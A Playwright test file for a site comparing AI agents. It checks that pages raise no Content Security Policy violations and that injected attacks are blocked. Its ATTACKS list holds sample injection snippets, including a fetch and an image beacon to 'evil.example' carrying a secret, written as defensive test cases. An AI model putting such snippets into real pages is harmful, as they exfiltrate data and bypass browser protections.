import type { Locator } from '@playwright/test';
import { ADDRESSES } from '../support/routes.ts';
import { expect, hydrated, test } from '../support/test.ts';

test('navigating the site violates no policy', async ({ page, troubles }) => {
  await page.goto('/');
  await hydrated(page);
  const header = page.getByRole('banner');
  const footer = page.getByRole('contentinfo');
  const follow = async (link: Locator) => {
    const address = (await link.getAttribute('href')) ?? '';
    await link.click();
    await expect(page).toHaveURL(address);
    await hydrated(page);
  };
  for (const name of ['Leaderboard', 'Selector', 'Blog', 'Home'])
    await follow(header.getByRole('link', { name, exact: true }).first());
  for (const name of ['AI Agents Glossary', 'FAQs', 'About Us', 'Compare AI Agents'])
    await follow(footer.getByRole('link', { name }));
  await page.goBack();
  await hydrated(page);
  expect(troubles.list).toEqual([]);
});

test('toasts, tabs and menus violate no policy', async ({ page, troubles }) => {
  await page.goto('/agent/2');
  await hydrated(page);
  await page.getByRole('button', { name: /^Downvote/ }).click();
  await expect(page.getByText('Vote recorded', { exact: true })).toBeVisible();
  await page.getByRole('button', { name: /Write a Review/ }).click();
  await expect(page.getByText('Review feature coming soon', { exact: true })).toBeVisible();
  await page.getByRole('tab', { name: /^Reviews/ }).click();
  await page.getByRole('banner').getByRole('button', { name: 'Theme' }).click();
  await page.getByText('Dark', { exact: true }).click();
  expect(troubles.list).toEqual([]);
});

test('the palette violates no policy', async ({ page, troubles }) => {
  await page.goto('/');
  await hydrated(page);
  await page.keyboard.press('ControlOrMeta+k');
  await page.getByRole('dialog').getByPlaceholder('Search AI agents...').fill('claude');
  await expect(page.getByRole('option', { name: /Claude/ }).first()).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toBeHidden();
  expect(troubles.list).toEqual([]);
});

const ATTACKS = [
  ['HTML made from text', 'require-trusted-types-for', `document.body.innerHTML = '<b>x</b>'`],
  [
    'a policy that creates HTML from text',
    'trusted-types',
    `trustedTypes.createPolicy('x', { createHTML: (text) => text })`,
  ],
  [
    'a script made from text',
    'require-trusted-types-for',
    `document.head.append(Object.assign(document.createElement('script'), { textContent: 'x' }))`,
  ],
  // With a delay, because code that the debugger itself runs is exempt.
  [
    'code made from text',
    'require-trusted-types-for',
    `setTimeout(() => { try { Reflect.construct(Function, ['return 1']); } catch {} })`,
  ],
  ['a worker that no release contains', 'require-trusted-types-for', `new Worker('/assets/x.js')`],
  [
    'a policy that accepts any worker',
    'trusted-types',
    `trustedTypes.createPolicy('default', { createScriptURL: (url) => url })`,
  ],
  [
    'a style sheet in the page',
    'style-src-elem',
    `document.head.append(Object.assign(document.createElement('style'), { textContent: 'a{}' }))`,
  ],
  ['a call to another site', 'connect-src', `fetch('https://evil.example/').catch(() => {})`],
  [
    'a picture of another site',
    'img-src',
    `new Image().src = 'https://evil.example/pixel.png?secret'`,
  ],
] as const;

test('the policy stops attacks, and every test would report them', async ({ page, troubles }) => {
  await page.goto('/faq');
  await hydrated(page);
  for (const [what, directive, attack] of ATTACKS) {
    troubles.list.length = 0;
    await page.evaluate(`try { ${attack} } catch {}`);
    await expect
      .poll(() => troubles.list.filter((text) => text.startsWith('policy: ')).join('\n'), what)
      .toContain(`policy: ${directive}`);
  }
});

test('every page has the same policy except for its own scripts', async ({ request }) => {
  const policies = new Set<string | undefined>();
  // One by one, because the number of concurrent renders per client is limited.
  for (const { path } of ADDRESSES) {
    const headers = (await request.get(path)).headers();
    policies.add(headers['content-security-policy']?.replaceAll(/'sha256-[^']+'/g, 'hash'));
  }
  expect([...policies]).toHaveLength(1);
});
